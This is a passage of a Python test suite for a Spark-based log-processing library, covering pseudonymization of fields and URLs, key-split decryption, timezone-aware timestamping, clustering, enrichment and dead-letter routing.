        hybrid_decrypt(F.col("tok"), "analyst-key", "wrong").alias("a"),
        hybrid_decrypt(F.col("tok"), "wrong", "depseudo-key").alias("b"),
        hybrid_decrypt(F.col("tok"), "analyst-key", "depseudo-key").alias("ok"),
    ).first()
    assert one_key.a is None and one_key.b is None
    assert one_key.ok == "alice"


def test_timestamper_source_tz_only_for_naive(spark):
    """source_timezone shifts naive strings only: UNIX epochs and ISO
    strings with explicit offsets are absolute instants (reference
    util/time.py:187-192) and must not move."""
    df = spark.createDataFrame(
        [(1, "2024-06-01T12:00:00", "2024-06-01T12:00:00+02:00", "1717243200")],
        "id long, naive string, offset string, unix string",
    )
    out = Timestamper(
        [
            {"filter": "*", "timestamper": {
                "source_fields": ["naive"], "target_field": "t_naive",
                "source_timezone": "Europe/Berlin"}},
            {"filter": "*", "timestamper": {
                "source_fields": ["offset"], "target_field": "t_offset",
                "source_timezone": "Europe/Berlin"}},
            {"filter": "*", "timestamper": {
                "source_fields": ["unix"], "target_field": "t_unix",
                "source_format": ["UNIX"], "source_timezone": "Europe/Berlin"}},
        ]
    ).transform(df).first()
    # naive 12:00 Berlin (CEST=UTC+2) → 10:00Z
    assert out.t_naive == "2024-06-01T10:00:00.000Z"
    # explicit +02:00 already parses to 10:00Z — must NOT shift again
    assert out.t_offset == "2024-06-01T10:00:00.000Z"
    # epoch 1717243200 = 2024-06-01T12:00:00Z exactly — never shifted
    assert out.t_unix == "2024-06-01T12:00:00.000Z"


def test_pseudonymizer_url_fields(spark):
    """url_fields get structural URL pseudonymization (reference
    _pseudonymize_url): scheme + registered domain stay readable;
    subdomain, path, query values, fragment are masked."""
    url = "https://login.internal.example.com/account/settings?user=alice&token=xyz#sec2"
    df = spark.createDataFrame([(1, f"visit {url} now")], "id long, msg string")
    proc = Pseudonymizer(
        [{"filter": "*", "pseudonymizer": {
            "mapping": {"msg": r"visit .*"},
            "url_fields": ["msg"]}}]
    )
    row = proc.transform(df).first()
    assert row.msg.startswith("visit https://<pseudonym:")
    assert "example.com" in row.msg            # registered domain readable
    assert "login.internal" not in row.msg     # subdomain masked
    assert "account/settings" not in row.msg   # path masked
    assert "alice" not in row.msg and "xyz" not in row.msg  # query values masked
    assert "user=<pseudonym:" in row.msg       # query keys readable
    assert "#sec2" not in row.msg and "#<pseudonym:" in row.msg
    assert row.msg.endswith(" now")


def test_pseudonymizer_url_fields_regex_gated(spark):
    """url_fields only applies when the rule's mapping regex matches
    the field value (reference _pseudonymize_field gates on match)."""
    msg = "visit https://login.internal.example.com/a now"
    df = spark.createDataFrame([(1, msg)], "id long, msg string")
    out = Pseudonymizer(
        [{"filter": "*", "pseudonymizer": {
            "mapping": {"msg": r"will-not-match-\d{9}"},
            "url_fields": ["msg"]}}]
    ).transform(df)
    assert out.first().msg == msg  # untouched: regex didn't match


def test_pseudonymizer_url_domain_in_path(spark):
    """Positional rebuild: a path label equal to the registered-domain
    label must not corrupt the readable domain (the old substring
    replace over the whole URL mangled https://example.com/example)."""
    df = spark.createDataFrame(
        [("https://a.example.com/example?q=example#example",)], "u string"
    )
    out = df.select(pseudonymize_url(F.col("u")).alias("m")).first().m
    assert ".example.com/" in out               # domain intact
    assert out.startswith("https://<pseudonym:")
    assert "/example" not in out.split("?")[0].replace(".example.com", "")
    assert "?q=<pseudonym:" in out and "#<pseudonym:" in out


def test_pseudonymizer_encrypt_substring_safe(spark):
    """Two-phase sentinel replace: a shorter captured value that is a
    substring of an earlier pseudonym's base64 ciphertext must not
    corrupt it (encrypt mode emits base64 over the full alphabet)."""
    from logprep_spark.operators.pseudonymizer import depseudonym_for

    df = spark.createDataFrame([("user=alice id=al",)], "msg string")
    proc = Pseudonymizer(
        [{"filter": "*", "pseudonymizer": {
            "mapping": {"msg": r"user=(\w+)|id=(\w+)"}}}],
        secret="k", mode="encrypt",
    )
    out = proc.transform(df).first().msg
    toks = re.findall(r"<pseudonym:([A-Za-z0-9+/=]+)>", out)
    assert len(toks) == 2
    dec = spark.range(1).select(
        *[depseudonym_for(F.lit(t), "k").alias(f"d{i}") for i, t in enumerate(toks)]
    ).first()
    assert sorted([dec.d0, dec.d1]) == ["al", "alice"]


def test_clusterer_reference_pattern_repl(spark):
    """Reference rule syntax: pattern/repl with re.sub semantics and
    backref support (rule.py:129-132)."""
    df = spark.createDataFrame(
        [("sent 1024 Bytes to host",)], "message string"
    )
    out = Clusterer(
        [{"filter": "*", "clusterer": {
            "source_fields": ["message"],
            "pattern": r"(bytes|Bytes|Byte)", "repl": "byte"}}]
    ).transform(df)
    assert out.first().cluster_signature == "sent 1024 byte to host"
    tagged = Clusterer(
        [{"filter": "*", "clusterer": {
            "source_fields": ["message"],
            "pattern": r"(\d+)", "repl": r"<+>\1</+>"}}]
    ).transform(df)
    assert "<+>1024</+>" in tagged.first().cluster_signature


def test_generic_resolver_ignore_case(spark):
    df = spark.createDataFrame([("ERROR",), ("error",)], "lvl string")
    out = GenericResolver(
        [{"filter": "*", "generic_resolver": {
            "field_mapping": {"lvl": "sev"},
            "resolve_list": {"^error$": "high"},
            "ignore_case": True}}]
    ).transform(df)
    assert [r.sev for r in out.collect()] == ["high", "high"]


def test_selective_extractor_extract_from_file(spark, tmp_path):
    f = tmp_path / "fields.txt"
    f.write_text("# comment\nuser_id\n")
    df = spark.createDataFrame([(1, 7, "x")], "event_id long, user_id long, other string")
    proc = SelectiveExtractor(
        [{"filter": "*", "selective_extractor": {
            "source_fields": ["event_id"],
            "extract_from_file": str(f),
            "outputs": [{"kafka": "topic1"}]}}]
    )
    out = proc.extracted(df)["topic1"]
    assert out.columns == ["event_id", "user_id"]
    assert out.first().user_id == 7


def test_requester_options_and_field_mapping(spark):
    """Full reference option schema reaches the transport templated
    from the event; target_field_mapping copies dotted response
    subpaths into event fields."""
    import json

    def handler(req):
        assert req["url"].endswith("/u/alice")
        assert req["headers"] == {"X-Trace": "7"}
        assert req["json"] == {"who": "alice"} and req["timeout"] == 5
        return {"status": "ok", "geo": {"cc": "DE"}}

    df = spark.createDataFrame([(7, "alice")], "id long, user string")
    proc = Requester(
        [{"filter": "*", "requester": {
            "url": "https://api.example.test/u/${user}",
            "method": "POST",
            "headers": {"X-Trace": "${id}"},
            "json": {"who": "${user}"},
            "timeout": 5,
            "target_field": "resp",
            "target_field_mapping": {"geo.cc": "country"}}}],
        handler=handler,
    )
    row = proc.transform(df).first()
    assert json.loads(row.resp)["status"] == "ok"
    assert row.country == "DE"


def test_pre_detector_link_and_copy_fields(spark):
    df = spark.createDataFrame([(1, "h1", "bad")], "event_id long, host string, event_type string")
    proc = PreDetector(
        [{"filter": "event_type: bad", "pre_detector": {
            "id": "r1", "title": "t", "severity": "high", "mitre": [],
            "case_condition": "directly",
            "link": "https://wiki.example.test/case/r1",
            "copy_fields_to_detection_event": {"host": "affected_host"}}}]
    )
    det = proc.detections(df).first()
    assert det.link == "https://wiki.example.test/case/r1"
    assert det.affected_host == "h1"


def test_geoip_customize_target_subfields(spark):
    df = spark.createDataFrame([("10.1.2.3",)], "client_ip string")
    proc = GeoipEnricher(
        [{"filter": "*", "geoip_enricher": {
            "source_fields": ["client_ip"],
            "customize_target_subfields": {
                "country": "geoip.country_iso",
                "coordinates": "geoip.location"}}}]
    )
    row = proc.transform(df).first()
    geo = row.geoip.asDict()
    assert "country_iso" in geo and "location" in geo
    assert "country" not in geo


def test_pipeline_split_failed_dead_letter(spark):
    """Pipeline.split_failed: events any processor failure-tagged route
    to the dead-letter frame, clean events to the main frame."""
    from logprep_spark.operators import Pipeline

    df = spark.createDataFrame(
        [(1, "GET /a HTTP/1.1", '{"k": "v"}'),
         (2, "garbled",         '{"k": "w"}'),
         (3, "POST /b HTTP/1.1", "nope")],
        "id long, request string, payload string",
    )
    pipe = Pipeline([
        Grokker([{"filter": "*", "grokker": {
            "mapping": {"request": "%{WORD:verb} %{URIPATH:path}"}}}]),
        Decoder([{"filter": "*", "decoder": {
            "source_fields": ["payload"], "target_field": "doc"}}]),
    ])
    ok, failed = pipe.split_failed(df)
    assert {r.id for r in ok.collect()} == {1}
    bad = {r.id: r.tags for r in failed.collect()}
    assert bad[2] == ["_grokker_failure"]
    assert bad[3] == ["_decoder_failure"]
